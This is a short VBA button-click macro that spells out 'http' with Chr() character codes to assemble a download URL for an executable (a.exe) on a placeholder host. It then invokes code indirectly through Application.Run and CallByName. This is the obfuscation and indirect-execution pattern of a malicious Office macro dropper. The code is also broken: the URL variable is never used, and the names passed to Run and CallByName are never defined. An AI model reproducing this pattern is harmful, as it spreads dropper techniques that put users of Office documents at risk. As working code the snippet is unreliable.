Sub CommandButton1_Click()
  u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & ":" & "//x.invalid/a.exe"
  Application.Run n
  CallByName Me, m, VbMethod
End Sub
